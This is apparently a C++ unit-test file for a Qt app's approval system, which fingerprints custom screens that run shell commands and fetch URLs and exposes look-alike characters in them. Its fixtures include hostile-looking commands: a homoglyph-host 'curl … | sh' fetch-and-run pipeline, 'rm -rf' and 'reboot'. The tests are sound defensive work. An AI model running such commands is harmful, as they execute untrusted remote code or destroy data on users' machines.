#include "screens/runtime/ScreenTrust.h"

#include "platform/Settings.h"
#include "macros/MacroJson.h"
#include "screens/format/ScreenTemplate.h"
#include "screens/runtime/CanonicalJson.h"
#include "support/WaitUntil.h"

#include <QCryptographicHash>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTemporaryDir>

#include <gtest/gtest.h>

#include <algorithm>

namespace {

const QChar nul(u'\0');

// The fingerprint written out by hand: distinct identities, sorted, joined by U+0001, SHA-256.
QString referenceFingerprint(QStringList identities)
{
    identities.removeDuplicates();
    std::sort(identities.begin(), identities.end());
    return QString::fromLatin1(
        QCryptographicHash::hash(identities.join(QChar(u'\u0001')).toUtf8(), QCryptographicHash::Sha256).toHex());
}

CustomScreen::TextWidget textReading(const QString& key)
{
    CustomScreen::TextWidget text;
    text.text = QStringLiteral("{{") + key + QStringLiteral("}}");
    return text;
}

CustomScreen::DataSource shell(const QString& key, const QString& command, double interval = 5)
{
    return {key, CustomScreen::DataSource::Shell{command}, interval, std::nullopt};
}

CustomScreen::DataSource url(const QString& key, const QString& address, QMap<QString, QString> headers = {})
{
    return {key, CustomScreen::DataSource::Url{QUrl(address), QStringLiteral("temp"), std::move(headers)}, 60,
            std::nullopt};
}

CustomScreen::ButtonWidget button(const QString& label, MacroAction action, std::optional<DeviceIcon> icon = {})
{
    CustomScreen::ButtonWidget widget;
    widget.rect = {10, 10, 100, 40};
    widget.label = label;
    widget.icon = icon;
    widget.action = std::move(action);
    return widget;
}

// A screen that shows "cpu" from a shell source and "weather" from a fetch, and has a button
// that opens a URL and one that switches page.
CustomScreen sampleScreen()
{
    CustomScreen screen;
    screen.id = QStringLiteral("stats");
    screen.title = QStringLiteral("Stats");
    screen.sources = {shell(QStringLiteral("cpu"), QStringLiteral("top -bn1 | head -3")),
                      url(QStringLiteral("weather"), QStringLiteral("https://example.com/w?q=1"),
                          {{QStringLiteral("X-Key"), QStringLiteral("abc")},
                           {QStringLiteral("Accept"), QStringLiteral("json")}}),
                      shell(QStringLiteral("unused"), QStringLiteral("rm -rf /tmp/x"))};
    screen.widgets = {textReading(QStringLiteral("cpu")), textReading(QStringLiteral("weather")),
                      button(QStringLiteral("Docs"), MacroAction::openURL(QStringLiteral("https://example.com/a/b"))),
                      button(QStringLiteral("Next"), MacroAction::showScreen(QStringLiteral("home")))};
    return screen;
}

TEST(ScreenPermissionsTest, ListSourcesInUseThenButtonsWithTheirIdentities)
{
    const QList<CustomScreen::Permission> permissions = sampleScreen().permissions();
    ASSERT_EQ(permissions.size(), 3);
    EXPECT_EQ(permissions[0].kind, CustomScreen::Permission::Kind::shell);
    EXPECT_EQ(permissions[0].title, QStringLiteral("Runs every 5 s"));
    EXPECT_EQ(permissions[0].detail, QStringLiteral("top -bn1 | head -3"));
    EXPECT_EQ(permissions[0].identity, QStringLiteral("shell") + nul + QStringLiteral("top -bn1 | head -3"));
    EXPECT_EQ(permissions[1].title, QStringLiteral("Fetches every 60 s"));
    EXPECT_EQ(permissions[1].detail, QStringLiteral("https://example.com/w?q=1"));
    // Every header is shown with its value: where the request goes is all in sight.
    EXPECT_EQ(permissions[1].headers,
              (QList<std::pair<QString, QString>>{{QStringLiteral("Accept"), QStringLiteral("json")},
                                                  {QStringLiteral("X-Key"), QStringLiteral("abc")}}));
    EXPECT_EQ(permissions[1].identity, QStringLiteral("url") + nul + QStringLiteral("https://example.com/w?q=1") + nul +
                                           QStringLiteral("Accept=json") + nul + QStringLiteral("X-Key=abc"));
    EXPECT_EQ(permissions[2].title, QStringLiteral("Button \u201CDocs\u201D"));
    EXPECT_EQ(permissions[2].detail, QStringLiteral("Opens https://example.com/a/b"));
    // Sorted keys, compact, and the solidus escaped.
    EXPECT_EQ(permissions[2].identity,
              QStringLiteral("action") + nul +
                  QStringLiteral(R"({"kind":"openURL","url":"https:\/\/example.com\/a\/b"})"));
    EXPECT_EQ(permissions[2].id(), QStringLiteral("action Button \u201CDocs\u201D ") + permissions[2].identity);
}

TEST(ScreenPermissionsTest, FingerprintHashesTheDistinctSortedIdentities)
{
    CustomScreen screen = sampleScreen();
    // A second source running the same command counts once.
    screen.sources.append(shell(QStringLiteral("cpu2"), QStringLiteral("top -bn1 | head -3"), 30));
    screen.widgets.append(textReading(QStringLiteral("cpu2")));
    QStringList identities;
    for (const CustomScreen::Permission& permission : screen.permissions())
        identities.append(permission.identity);
    EXPECT_EQ(identities.size(), 4);
    const std::optional<QString> fingerprint = screen.fingerprint();
    ASSERT_TRUE(fingerprint);
    EXPECT_EQ(*fingerprint, referenceFingerprint(identities));
    EXPECT_EQ(fingerprint->size(), 64);
    EXPECT_EQ(*fingerprint, sampleScreen().fingerprint());
}

TEST(ScreenPermissionsTest, OnlyWhatRunsChangesTheFingerprint)
{
    const QString base = *sampleScreen().fingerprint();
    const auto changed = [&](const std::function<void(CustomScreen&)>& edit) {
        CustomScreen screen = sampleScreen();
        edit(screen);
        return screen.fingerprint() != base;
    };
    using Shell = CustomScreen::DataSource::Shell;
    using Url = CustomScreen::DataSource::Url;
    EXPECT_TRUE(changed([](CustomScreen& s) { std::get<Shell>(s.sources[0].kind).command += u' '; }));
    EXPECT_TRUE(changed([](CustomScreen& s) {
        std::get<Url>(s.sources[1].kind).headers[QStringLiteral("X-Key")] = QStringLiteral("abd");
    }));
    EXPECT_TRUE(changed([](CustomScreen& s) {
        std::get<CustomScreen::ButtonWidget>(s.widgets[2]).action = MacroAction::typeText(QStringLiteral("hi"));
    }));
    // The same words in another Unicode composition are other bytes to the shell: a command
    // added beside its composed twin is a new permission.
    const QString composed = QStringLiteral("touch /tmp/caf\u00E9");
    const QString decomposed = QStringLiteral("touch /tmp/cafe\u0301");
    ASSERT_EQ(composed, decomposed.normalized(QString::NormalizationForm_C));
    CustomScreen approvedOne = sampleScreen();
    approvedOne.sources.append(shell(QStringLiteral("c"), composed));
    approvedOne.widgets.append(textReading(QStringLiteral("c")));
    CustomScreen both = approvedOne;
    both.sources.append(shell(QStringLiteral("d"), decomposed));
    both.widgets.append(textReading(QStringLiteral("d")));
    EXPECT_NE(both.fingerprint(), approvedOne.fingerprint());
    // An unused source, intervals, labels, positions, field paths and widget order do not.
    EXPECT_FALSE(changed([](CustomScreen& s) { std::get<Shell>(s.sources[2].kind).command = {}; }));
    EXPECT_FALSE(changed([](CustomScreen& s) { s.sources[0].interval = 1; }));
    EXPECT_FALSE(changed([](CustomScreen& s) {
        std::get<Url>(s.sources[1].kind).field = QStringLiteral("other");
    }));
    EXPECT_FALSE(changed([](CustomScreen& s) {
        auto& b = std::get<CustomScreen::ButtonWidget>(s.widgets[2]);
        b.label = QStringLiteral("Read");
        b.rect.x = 200;
    }));
    EXPECT_FALSE(changed([](CustomScreen& s) { std::swap(s.widgets[0], s.widgets[2]); }));
}

TEST(ScreenPermissionsTest, ButtonTitlesAndNothingToApprove)
{
    CustomScreen screen;
    screen.id = QStringLiteral("quiet");
    screen.sources = {
        {QStringLiteral("n"), CustomScreen::DataSource::Push{QStringLiteral("n"), std::nullopt}, 60, std::nullopt}};
    screen.widgets = {textReading(QStringLiteral("n")),
                      button(QString(), MacroAction::showScreen(QStringLiteral("home")))};
    EXPECT_TRUE(screen.permissions().isEmpty());
    EXPECT_EQ(screen.fingerprint(), std::nullopt);

    screen.widgets = {button(QString(), MacroAction::unassigned()),
                      button(QString(), MacroAction::unassigned(), DeviceIcon::power)};
    const QList<CustomScreen::Permission> permissions = screen.permissions();
    ASSERT_EQ(permissions.size(), 2);
    EXPECT_EQ(permissions[0].title, QStringLiteral("Button \u201Cbutton\u201D"));
    EXPECT_EQ(permissions[1].title, QStringLiteral("Button \u201Cpower\u201D"));
}

// An address shows as it is fetched or opened, its host in ASCII as it is looked up and, where
// that reads otherwise, in Unicode beside it with its look-alikes written out; the text a button
// was given stays its identity. One with placeholders shows as written, its host in ASCII.
TEST(ScreenPermissionsTest, AddressesShowAsTheyOpenTheirHostAlsoInUnicode)
{
    CustomScreen screen;
    screen.id = QStringLiteral("idn");
    const QString address = QStringLiteral("https://ex\u0430mple.com:8443/p\u00E4th?q=\u00E9");
    screen.sources = {url(QStringLiteral("w"), address)};
    screen.widgets = {textReading(QStringLiteral("w")),
                      button(QStringLiteral("Go"), MacroAction::openURL(address)),
                      button(QStringLiteral("Book"), MacroAction::openURL(QStringLiteral("HTTPS://B\u00FCcher.example/a b"))),
                      button(QStringLiteral("Sub"),
                             MacroAction::openURL(QStringLiteral("https://{{s}}.b\u00FCcher.example/"))),
                      button(QStringLiteral("Fill"), MacroAction::openURL(QStringLiteral("{{link}}")))};
    const QList<CustomScreen::Permission> permissions = screen.permissions();
    ASSERT_EQ(permissions.size(), 5);
    const QString opened = QStringLiteral("https://xn--exmple-4nf.com:8443/p%C3%A4th?q=%C3%A9 (ex\\u0430mple.com)");
    EXPECT_EQ(permissions[0].detail, opened);
    EXPECT_EQ(permissions[1].detail, QStringLiteral("Opens ") + opened);
    EXPECT_TRUE(permissions[1].identity.contains(QStringLiteral("ex\u0430mple.com")));
    EXPECT_EQ(permissions[2].detail, QStringLiteral("Opens https://xn--bcher-kva.example/a%20b (b\u00FCcher.example)"));
    EXPECT_EQ(permissions[3].detail, QStringLiteral("Opens https://{{s}}.xn--bcher-kva.example/"));
    EXPECT_EQ(permissions[4].detail, QStringLiteral("Opens {{link}}"));
}

// An approval given before look-alikes and every modifier were written out holds for each
// action shown as it was (the samples' own among them); one whose words now show what they hid
// asks again, and one that shows in other words only does not.
TEST(ScreenPermissionsTest, ApprovalsHoldWhereTheWordsShowWhatTheyShowedBefore)
{
    const auto identity = [](const MacroAction& action) {
        CustomScreen screen;
        screen.widgets = {button(QStringLiteral("B"), action)};
        return screen.permissions().first().identity;
    };
    const auto stored = [](const MacroAction& action) {
        return QStringLiteral("action") + nul + QString::fromUtf8(CanonicalJson::write(encodeMacroAction(action)));
    };
    for (const MacroAction& same :
         {MacroAction::keystroke({15, HIDModifiers{0x09}}), MacroAction::media(MediaKey::playPause),
          MacroAction::openApp({QStringLiteral("firefox-esr"), QStringLiteral("Firefox")}),
          MacroAction::openURL(QStringLiteral("https://example.com/a/b?q=1")),
          MacroAction::openURL(QStringLiteral("https://b\u00FCcher.example/")),
          MacroAction::openURL(QStringLiteral("https://example.com/search?q={{q}}")),
          // Shown in ASCII already, as it is looked up.
          MacroAction::openURL(QStringLiteral("https://ex\u0430mple.com/{{q}}")),
          MacroAction::runShortcut(QStringLiteral("back up")), MacroAction::typeText(QStringLiteral("Hello, w\u00F6rld\n")),
          MacroAction::screenshot({ScreenshotOptions::Mode::window, ScreenshotOptions::Destination::clipboard})})
        EXPECT_EQ(identity(same), stored(same)) << CustomScreen::actionDetail(same).toStdString();
    for (const MacroAction& revealed :
         {MacroAction::keystroke({15, HIDModifiers{0x80}}),
          MacroAction::openApp({QStringLiteral("firefox-esr"), QStringLiteral("Fire\u0444ox")}),
          MacroAction::openURL(QStringLiteral("HTTPS://Example.com/a b")),
          MacroAction::openURL(QStringLiteral("https://example.com/ex\u0430mple/{{q}}")),
          MacroAction::runShortcut(QStringLiteral("b\u0430ck up")), MacroAction::typeText(QStringLiteral("cafe\u0301")),
          MacroAction::typeText(QStringLiteral("say \u201Chi\u201D"))})
        EXPECT_NE(identity(revealed), stored(revealed)) << CustomScreen::actionDetail(revealed).toStdString();

    CustomScreen sources;
    sources.sources = {shell(QStringLiteral("a"), QStringLiteral("top -bn1 | head -3")),
                       shell(QStringLiteral("b"), QStringLiteral("curl -s https://ex\u0430mple.com/i | sh")),
                       url(QStringLiteral("c"), QStringLiteral("https://example.com/"),
                           {{QStringLiteral("X-Key"), QStringLiteral("\u0430bc")}})};
    sources.widgets = {textReading(QStringLiteral("a")), textReading(QStringLiteral("b")),
                       textReading(QStringLiteral("c"))};
    const QList<CustomScreen::Permission> permissions = sources.permissions();
    EXPECT_EQ(permissions[0].identity, QStringLiteral("shell") + nul + QStringLiteral("top -bn1 | head -3"));
    EXPECT_NE(permissions[1].identity, QStringLiteral("shell") + nul + QStringLiteral("curl -s https://ex\u0430mple.com/i | sh"));
    EXPECT_NE(permissions[2].identity, QStringLiteral("url") + nul + QStringLiteral("https://example.com/") + nul +
                                           QStringLiteral("X-Key=\u0430bc"));

    // The samples every Screens folder starts with keep their approvals.
    for (const ScreenTemplate& sample : ScreenTemplate::all()) {
        QList<ScreenIssue> issues;
        const std::optional<CustomScreen> screen =
            CustomScreen::parse(sample.json.toUtf8(), sample.id, sample.id + QStringLiteral(".json"), issues);
        ASSERT_TRUE(screen && !hasErrors(issues)) << sample.id.toStdString();
        for (const CustomScreen::Permission& permission : screen->permissions())
            EXPECT_FALSE(permission.identity.contains(nul + QStringLiteral("shown") + nul)) << sample.id.toStdString();
    }
}

TEST(CanonicalJsonTest, WritesSortedCompactEscapedText)
{
    const QJsonObject object{{QStringLiteral("z"), 1},
                             {QStringLiteral("a"), QStringLiteral("a/b \"q\" \\ \n\u0001 \u00E9")},
                             {QStringLiteral("m"),
                              QJsonObject{{QStringLiteral("y"), true}, {QStringLiteral("x"), 1.5}}}};
    EXPECT_EQ(CanonicalJson::write(object),
              QByteArray(R"({"a":"a\/b \"q\" \\ \n\u0001 )") + QByteArray("\xC3\xA9") +
                  QByteArray(R"(","m":{"x":1.5,"y":true},"z":1})"));
}

struct ScreenTrustTest : ::testing::Test {
    QTemporaryDir dir;
    std::unique_ptr<Settings> settings = std::make_unique<Settings>(dir.filePath(QStringLiteral("Tarv.conf")));

    QJsonObject stored() const
    {
        return QJsonDocument::fromJson(settings->bytes(ScreenTrust::storageKey).value_or(QByteArray())).object();
    }
};

TEST_F(ScreenTrustTest, FirstRunApprovesEveryLoadedScreenOnceAndSilently)
{
    ScreenTrust trust(settings.get());
    EXPECT_TRUE(trust.isFirstRun());
    int approvals = 0;
    trust.onApprove = [&](const QString&) { ++approvals; };
    const CustomScreen screen = sampleScreen();
    trust.approveAllOnFirstRun({screen});
    // In effect once stored.
    EXPECT_TRUE(waitUntil([&] { return trust.isScreenApproved(screen); }));
    EXPECT_EQ(approvals, 0);
    EXPECT_EQ(stored().value(screen.id).toString(), *screen.fingerprint());

    // The next start is no first run, also when nothing was approved.
    ScreenTrust later(settings.get());
    EXPECT_FALSE(later.isFirstRun());
    EXPECT_TRUE(later.isScreenApproved(screen));
    CustomScreen edited = screen;
    std::get<CustomScreen::DataSource::Shell>(edited.sources[0].kind).command = QStringLiteral("reboot");
    later.approveAllOnFirstRun({edited});
    EXPECT_FALSE(later.isScreenApproved(edited));
}

TEST_F(ScreenTrustTest, DamagedApprovalsTrustNothingAndAreNoFirstRun)
{
    settings->setBytes(ScreenTrust::storageKey, QByteArray(R"({"stats":"abc","clock":12})"));
    ScreenTrust trust(settings.get());
    EXPECT_FALSE(trust.isFirstRun());
    EXPECT_TRUE(trust.approved().isEmpty());
    trust.approveAllOnFirstRun({sampleScreen()});
    EXPECT_FALSE(trust.isScreenApproved(sampleScreen()));

    settings->setText(ScreenTrust::storageKey, QStringLiteral("not json"));
    ScreenTrust garbled(settings.get());
    EXPECT_FALSE(garbled.isFirstRun());
    EXPECT_TRUE(garbled.approved().isEmpty());

    // A settings file that is not one at all is set aside and read as empty: the approvals are
    // missing, yet it is no new installation.
    const QString damagedPath = dir.filePath(QStringLiteral("Damaged.conf"));
    QFile damaged(damagedPath);
    ASSERT_TRUE(damaged.open(QIODevice::WriteOnly));
    for (int i = 0; i < 4096; ++i)
        damaged.putChar(char((i * 73 + 11) & 0xFF));
    damaged.close();
    Settings unreadable(damagedPath);
    ASSERT_FALSE(unreadable.contains(ScreenTrust::storageKey));
    ScreenTrust afterDamage(&unreadable);
    EXPECT_FALSE(afterDamage.isFirstRun());
    afterDamage.approveAllOnFirstRun({sampleScreen()});
    EXPECT_FALSE(afterDamage.isScreenApproved(sampleScreen()));
}

TEST_F(ScreenTrustTest, ApproveAndRevokeWriteAndCallOnlyOnChange)
{
    settings->setBytes(ScreenTrust::storageKey, QByteArray("{}"));
    ScreenTrust trust(settings.get());
    QStringList calls;
    trust.onApprove = [&](const QString& id) { calls.append(QStringLiteral("approve ") + id); };
    trust.onRevoke = [&](const QString& id) { calls.append(QStringLiteral("revoke ") + id); };
    const CustomScreen screen = sampleScreen();
    EXPECT_FALSE(trust.isScreenApproved(screen));
    trust.approveScreen(screen);
    trust.approveScreen(screen);
    EXPECT_TRUE(trust.isScreenApproved(screen));
    EXPECT_EQ(stored().value(screen.id).toString(), *screen.fingerprint());
    trust.revokeScreen(QStringLiteral("other"));
    trust.revokeScreen(screen.id);
    EXPECT_FALSE(trust.isScreenApproved(screen));
    EXPECT_TRUE(stored().isEmpty());
    EXPECT_EQ(calls, (QStringList{QStringLiteral("approve stats"), QStringLiteral("revoke stats")}));
}

TEST_F(ScreenTrustTest, ForgetsOnlyIdsNotPresent)
{
    settings->setBytes(ScreenTrust::storageKey, QByteArray(R"({"a":"1","b":"2"})"));
    ScreenTrust trust(settings.get());
    trust.forgetMissingScreens({QStringLiteral("a"), QStringLiteral("b"), QStringLiteral("c")});
    EXPECT_EQ(trust.approved().size(), 2);
    trust.forgetMissingScreens({QStringLiteral("b")});
    EXPECT_EQ(trust.approved().keys(), QStringList{QStringLiteral("b")});
    EXPECT_EQ(stored().keys(), QStringList{QStringLiteral("b")});
}

TEST_F(ScreenTrustTest, WithoutSettingsNothingIsStoredOrFirstRun)
{
    ScreenTrust trust;
    EXPECT_FALSE(trust.isFirstRun());
    trust.approveAllOnFirstRun({sampleScreen()});
    EXPECT_FALSE(trust.isScreenApproved(sampleScreen()));
    trust.approveScreen(sampleScreen());
    EXPECT_TRUE(trust.isScreenApproved(sampleScreen()));
    EXPECT_FALSE(settings->contains(ScreenTrust::storageKey));
}

}  // namespace
